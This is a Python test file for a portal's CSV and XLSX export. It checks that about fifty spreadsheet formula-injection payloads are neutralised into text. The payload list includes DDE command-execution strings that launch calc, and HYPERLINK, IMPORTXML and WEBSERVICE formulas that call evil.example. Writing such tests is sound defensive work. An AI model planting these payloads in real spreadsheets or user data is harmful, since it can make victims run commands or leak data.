"""Attack: a cell that a spreadsheet runs. 30 of them, in CSV and XLSX; none stays a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from portal.links.services import link_create
from portal.partners.authors import Author
from portal.web.partner.csv_export import cell, csv_response, safe_text
from portal.web.partner.report_files import xlsx_response
from tests.security.conftest import World

FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example\",\"x\")",
    "=IMPORTXML(\"https://evil.example\",\"//a\")", "=WEBSERVICE(\"https://evil.example\")",
    "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\x00=1+1", "\x0b=1+1",
    " =1+1", "  +1", "|calc", "%0A=1+1", "=\x00cmd", "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\ufeff=1+1", "\u200b=1+1", "\u00a0=1+1", "\u202e=1+1",
    "\"=1+1\"", "'=1+1", ";=1+1", ",=1+1",
    "\ufe661+1", "\ufe621", "\ufe631", "\u22121+1", "\u207c1+1", "\u208c1+1", "\u207a1",
    "\u034f=1", "\ufe0f=1", "\u115f=1", "\u3164=1", "\u2800=1", "\u3000=1", "\u2028=1",
    "\u2066=1", "\x85=1", "\u00a0\t =1", "\U000e0020=1",
)  # fmt: skip
STARTS = "=+-@|%\t\r\n＝＋－＠\ufe66\ufe62\ufe63\u2212\u207c\u208c\u207a"


def runs(text: str) -> bool:
    """Whether a spreadsheet may run it: what is left after what it ignores begins a formula."""
    bare = text.lstrip(" \u00a0\u200b\ufeff\u202e\x00\x0b\u034f\ufe0f\u115f\u3164\u2800\u3000")
    return bare[:1] in tuple(STARTS) and bare[:1] != ""


def test_there_are_thirty() -> None:
    assert len(set(FORMULAS)) >= 30


@pytest.mark.parametrize("text", FORMULAS)
def test_a_csv_cell_is_text(text: str) -> None:
    rows = csv_response("x.csv", ["a", "b"], [{"a": text, "b": 1}])
    data = b"".join(rows.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    found = list(csv.reader(io.StringIO(data)))[1]
    assert found[1] == "1"
    assert not runs(found[0]), found[0]
    assert "\n" not in found[0]
    assert "\x00" not in found[0]


@pytest.mark.parametrize("text", FORMULAS)
def test_an_xlsx_cell_is_no_formula(text: str) -> None:
    response = xlsx_response("x.xlsx", ["a"], [{"a": text}])
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    assert sheet.cell(2, 1).data_type in ("s", "inlineStr", "n", None)
    assert sheet.cell(2, 1).hyperlink is None


def test_numbers_keep_their_sign_and_floats_are_refused() -> None:
    from decimal import Decimal

    assert cell(Decimal("-1.50")) == "-1.50"
    with pytest.raises(TypeError):
        cell(1.5)
    assert safe_text("plain") == "plain"


@pytest.mark.parametrize("text", ["=1+1", "+x", "@x", "-x"])
def test_what_a_partner_typed_comes_back_as_text(world: World, text: str) -> None:
    link_create(by=Author("test"), program_id="larkspur", partner_id="P-2002", link_code="typed",
                destination="https://larkspur.example/", campaign=text)  # fmt: skip
    response = world.browsers["owner"].get("/larkspur/P-2002/links/links.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    cells = [value for row in rows[1:] for value in row]
    assert f"'{text}" in cells
    assert not [value for value in cells if value.startswith(("=", "+", "@"))]
